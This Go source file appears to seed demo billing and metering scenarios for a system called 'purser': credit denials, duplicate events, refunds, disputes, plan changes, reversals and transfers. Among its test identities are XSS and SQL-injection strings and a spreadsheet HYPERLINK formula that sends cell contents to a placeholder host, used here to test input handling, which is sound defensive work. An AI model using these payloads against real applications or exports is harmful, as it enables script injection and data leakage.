package demo

import (
	"context"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"time"

	"purser/ids"
	"purser/metering"
	"purser/store"
	"purser/tenancy"
)

// The identities of the cases, one each.
const (
	OutOfCredits = "ivan@fabrikam.example"
	OverLimit    = "felix@wingtip.example"
	OnHold       = "helena@proseware.example"
	InDebt       = "boris@contoso.example"
	Refunded     = "rosa@contoso.example"
	Disputed     = "dmitri@contoso.example"
	Downgrading  = "quinn@adatum.example"
	Upgrading    = "penny@adatum.example"
	Leaving      = "carla@adatum.example"
	Repeating    = "dora@tailspin.example"
	Browsing     = "nils@litware.example"

	Markup  = `<script>alert("purser")</script><img src=x onerror=alert(1)>&amp;' OR 1=1 --`
	Formula = `=HYPERLINK("https://elsewhere.example/?"&A1,"open me")`
	Strange = "a/b?c=%2F ../.. مرحبا 🦊 \u202egnirts"
)

// Longest has as many characters as an identity may have.
var Longest = strings.Repeat("an-identity-of-200-characters-", 7)[:200]

// createSupportCases creates the cases that support handles.
func (s *story) createSupportCases(ctx context.Context) {
	for _, happens := range []func(context.Context){
		s.watchBalances, s.denyForBalance, s.denyForLimit, s.denyForHold, s.sendDuplicates, s.refundTopUps, s.dispute,
		s.moveBetweenPlans, s.useUnusualIdentities, s.refusePlan, s.failRequests, s.adjustBalance, s.reverseCharges, s.transferCredits,
	} {
		happens(ctx)
	}
	s.advance(ctx, s.now+time.Hour.Milliseconds())
	s.answerWebhooks(ctx)
}

func (s *story) denyForBalance(ctx context.Context) {
	s.depositFor(ctx, OutOfCredits, 1, "order-ivan")
	s.edge.track(ctx, usage{id: "ivan-1", identity: OutOfCredits, feature: chat, quantity: 900}, "accepted")
	s.edge.trackDenied(ctx, usage{id: "ivan-2", identity: OutOfCredits, feature: image}, "insufficient_balance")
}

func (s *story) denyForLimit(ctx context.Context) {
	s.change(ctx, OverLimit, free)
	s.edge.track(ctx, usage{id: "felix-1", identity: OverLimit, feature: chat, quantity: 19_000}, "accepted")
	s.edge.trackDenied(ctx, usage{id: "felix-2", identity: OverLimit, feature: chat, quantity: 1_001}, "feature_limit_exceeded")
}

// denyForHold uses a subscription whose renewal was not paid. Features without a limit
// are still paid from the balance.
func (s *story) denyForHold(ctx context.Context) {
	s.edge.trackDenied(ctx, usage{id: "helena-1", identity: OnHold, feature: chat, quantity: 500}, "subscription_inactive")
	s.edge.track(ctx, usage{id: "helena-2", identity: OnHold, feature: transcribe, quantity: 10}, "accepted")
}

func (s *story) sendDuplicates(ctx context.Context) {
	s.backend.send(ctx, http.MethodPost, "/v1/wallets", object{"identity": Repeating}, nil, http.StatusCreated)
	s.backend.send(ctx, http.MethodPatch, "/v1/wallets/"+url.PathEscape(Repeating)+"/billing-period",
		object{"billingPeriod": object{"interval": "week", "anchor": metering.DayOf(s.now).Start}}, nil, http.StatusOK)
	s.depositFor(ctx, Repeating, 50, "order-dora")
	once := usage{id: "dora-1", identity: Repeating, feature: chat, quantity: 2500}
	for _, step := range []struct {
		usage
		outcome string
	}{
		{once, "accepted"},
		{once, "duplicate"},
		{usage{id: "dora-2", identity: Repeating, feature: export, entity: "annual-report"}, "accepted"},
		{usage{id: "dora-3", identity: Repeating, feature: export, entity: "annual-report"}, "deduplicated"},
		{usage{id: "dora-4", identity: Repeating, feature: seat, entity: "guest@litware.example"}, "accepted"},
		{usage{id: "dora-5", identity: Repeating, feature: seat, entity: "guest@litware.example"}, "deduplicated"},
	} {
		s.edge.track(ctx, step.usage, step.outcome)
	}
}

// refundTopUps refunds one top-up in part, and another in full after it was spent, which
// leaves a debt.
func (s *story) refundTopUps(ctx context.Context) {
	partly := s.topUp(ctx, Refunded, 100)
	s.backend.post(ctx, s.sandboxPath("refunds"), object{"checkoutId": partly, "amountCents": 400}, nil)
	whole := s.topUp(ctx, InDebt, 100)
	s.edge.track(ctx, usage{id: "boris-1", identity: InDebt, feature: chat, quantity: 80_000}, "accepted")
	s.backend.post(ctx, s.sandboxPath("refunds"), object{"checkoutId": whole}, nil)
}

func (s *story) dispute(ctx context.Context) {
	checkout := s.topUp(ctx, Disputed, 200)
	s.backend.post(ctx, s.sandboxPath("disputes"), object{"checkoutId": checkout, "outcome": "lost"}, nil)
}

func (s *story) moveBetweenPlans(ctx context.Context) {
	s.subscribe(ctx, Downgrading, team, cardPays)
	s.change(ctx, Downgrading, starter)
	s.subscribe(ctx, Upgrading, starter, cardAsks)
	s.change(ctx, Upgrading, team)
	s.subscribe(ctx, Leaving, starter, cardPays)
	s.backend.post(ctx, "/v1/subscriptions/"+url.PathEscape(Leaving)+"/cancel", object{"cancelAtPeriodEnd": true, "idempotencyKey": "cancel-carla"}, nil)
}

func (s *story) useUnusualIdentities(ctx context.Context) {
	for n, identity := range []string{Markup, Formula, Strange, Longest} {
		s.depositFor(ctx, identity, 10, fmt.Sprintf("order-strange-%d", n))
		s.edge.track(ctx, usage{id: fmt.Sprintf("strange-%d", n), identity: identity, feature: chat, quantity: 1234, entity: identity}, "accepted")
	}
}

// refusePlan creates a plan in a currency that the provider does not support.
func (s *story) refusePlan(ctx context.Context) {
	refused := plan(campus, "Campus", 900, "month", 30, limit(chat, 200_000, "billing", "block"))
	refused["currency"] = "btn"
	s.backend.post(ctx, "/v1/plans", refused, nil)
}

// failRequests sends invalid requests, for the request log.
func (s *story) failRequests(ctx context.Context) {
	for _, wrong := range []struct {
		backend
		path   string
		body   object
		status int
	}{
		{s.edge, "/v1/events", usage{id: "wrong-1", identity: "northwind", feature: "translate"}.eventBody(), http.StatusNotFound},
		{s.edge, "/v1/events", usage{id: "wrong-2", identity: "northwind", feature: agent}.eventBody(), http.StatusUnprocessableEntity},
		{s.edge, "/v1/events", object{"id": "wrong-3", "identity": "northwind", "feature": chat, "quantitty": 3}, http.StatusBadRequest},
		{s.edge, "/v1/deposits", object{"identity": "northwind", "creditKey": credits, "amountNanocredits": "1", "idempotencyKey": "wrong"}, http.StatusForbidden},
		{s.backend, "/v1/credits", object{"key": credits, "name": "Credits", "unit": "credit"}, http.StatusConflict},
	} {
		wrong.send(ctx, http.MethodPost, wrong.path, wrong.body, nil, wrong.status)
	}
}

// adjustBalance adjusts a customer's balance manually.
func (s *story) adjustBalance(ctx context.Context) {
	s.do(func() error {
		wallet, err := s.Store.App(s.app.Scope()).Wallet(ctx, Refunded)
		if err != nil {
			return err
		}
		return s.actingAs(tenancy.Admin).Adjust(ctx, store.Adjustment{
			ID: ids.New(), WalletID: wallet.ID, CreditKey: credits, Delta: metering.Delta{Amount: 7_500_000_000},
			Reason: "An export failed and was charged: ticket 4711.", By: s.staff[tenancy.Admin].ID, Now: s.now, ClockOffset: s.clockOffset,
		})
	})
}

// reverseCharges returns a failed image by the API, and a part of an answer by hand.
func (s *story) reverseCharges(ctx context.Context) {
	for _, step := range []usage{
		{id: "dora-6", identity: Repeating, feature: image},
		{id: "dora-7", identity: Repeating, feature: chat, quantity: 2500, properties: object{"model": "large", "project": "annual report"}},
	} {
		s.edge.track(ctx, step, "accepted")
	}
	s.backend.post(ctx, "/v1/events/dora-6/reverse", object{"reason": "The image was blank.", "idempotencyKey": "blank-dora-6"}, nil)
	s.do(func() error {
		_, _, err := s.actingAs(tenancy.Admin).Reverse(ctx, store.Reversal{
			ID: ids.New(), EventID: "dora-7", Requested: new(metering.Amount(1_000_000)), Reason: "The end of the answer was cut off: ticket 4712.",
			IdempotencyKey: "ticket-4712", By: s.staff[tenancy.Admin].ID, CreatedAt: s.now, ClockOffset: s.clockOffset,
		})
		return err
	})
}

// transferCredits moves credits between two customers by the API, and some of them back by
// hand.
func (s *story) transferCredits(ctx context.Context) {
	s.backend.post(ctx, "/v1/transfers", object{
		"from": Repeating, "to": Leaving, "creditKey": credits, "amountNanocredits": "2500000000", "reason": "Two accounts of one team were merged.",
		"idempotencyKey": "merge-dora",
	}, nil)
	s.do(func() error {
		_, _, err := s.actingAs(tenancy.Admin).Transfer(ctx, store.Transfer{
			ID: ids.New(), ToEntryID: ids.New(), From: Leaving, To: Repeating, CreditKey: credits, Amount: 500_000_000,
			Reason: "Too much was moved: ticket 4713.", IdempotencyKey: "ticket-4713", By: s.staff[tenancy.Admin].ID, CreatedAt: s.now, ClockOffset: s.clockOffset,
		})
		return err
	})
}
